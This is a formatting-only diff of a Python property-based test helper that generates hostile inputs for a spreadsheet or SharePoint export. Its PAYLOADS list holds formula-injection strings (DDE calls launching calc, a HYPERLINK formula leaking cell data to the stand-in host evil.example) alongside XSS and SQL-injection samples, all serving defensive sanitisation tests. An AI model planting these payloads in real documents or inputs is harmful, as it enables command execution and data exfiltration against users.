@@ -20,8 +20,11 @@ HOSTILE = settings(
     derandomize=True,
     deadline=None,
     max_examples=60,
-    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
-                           HealthCheck.function_scoped_fixture],
+    suppress_health_check=[
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+        HealthCheck.function_scoped_fixture,
+    ],
     database=None,
 )
 
@@ -32,6 +35,7 @@ def hostile(max_examples: int, *, shrink: bool = True) -> settings:
     if shrink:
         return settings(HOSTILE, max_examples=max_examples)
     return settings(HOSTILE, max_examples=max_examples, phases=[Phase.explicit, Phase.generate])
+
 
 #: Text a spreadsheet program would evaluate, or that breaks HTML/XML/CSV readers.
 PAYLOADS = (
@@ -44,9 +48,9 @@ PAYLOADS = (
     "\r=1+1",
     "\n=1+1",
     "=cmd|' /C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klicka\")",
-    "DDE(\"cmd\";\"/C calc\";\"!A0\")",
-    "=DDE(\"cmd\",\"/C calc\",\"A0\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"klicka")',
+    'DDE("cmd";"/C calc";"!A0")',
+    '=DDE("cmd","/C calc","A0")',
     "＝1+1",
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
@@ -60,7 +64,7 @@ PAYLOADS = (
     "\ufeffBOM\u200b\u200d",
     "\x00\x01\x07\x0b\x0c\x1b\x7f\x85",
     "'; DROP TABLE x;--",
-    "O'Brien \"quoted\" `tick`",
+    'O\'Brien "quoted" `tick`',
     "null",
     "",
     " ",
@@ -68,7 +72,9 @@ PAYLOADS = (
 
 # Every code point except lone surrogates (not representable in UTF-8, so never in JSON).
 _ANY_CHAR = st.characters(exclude_categories=("Cs",))
-_CONTROL = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.sampled_from("\x7f\x85\u2028\u2029")
+_CONTROL = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.sampled_from(
+    "\x7f\x85\u2028\u2029"
+)
 
 
 @st.composite
@@ -98,10 +104,17 @@ def short_hostile_text(max_size: int = 255) -> st.SearchStrategy[str]:
 
 
 #: SharePoint's DateTime range (1900-01-01 .. 8900-12-31); the extremes are the hostile part.
-EDGE_DATES = ("1900-01-01", "1900-01-02", "1969-12-31", "1970-01-01", "2038-01-19", "2099-12-31",
-              "2100-02-28", "2400-02-29", "8900-12-31")
-
-
+EDGE_DATES = (
+    "1900-01-01",
+    "1900-01-02",
+    "1969-12-31",
+    "1970-01-01",
+    "2038-01-19",
+    "2099-12-31",
+    "2100-02-28",
+    "2400-02-29",
+    "8900-12-31",
+)
 
 
 def hostile_date(*, max_value: str = "8900-12-31") -> st.SearchStrategy[str | None]:
@@ -136,7 +149,9 @@ def formula_cells(data: bytes) -> list[str]:
     data; the caller decides which, if any, are the workbook's own)."""
     hits = []
     for name, xml in sheet_parts(data).items():
-        for m in re.finditer(rb'<c r="([A-Z]+[0-9]+)"[^>]*>(?:(?!</c>).)*?<(?:\w+:)?f[\s>/]', xml, re.S):
+        for m in re.finditer(
+            rb'<c r="([A-Z]+[0-9]+)"[^>]*>(?:(?!</c>).)*?<(?:\w+:)?f[\s>/]', xml, re.S
+        ):
             hits.append(f"{name}!{m.group(1).decode()}")
     return hits
 
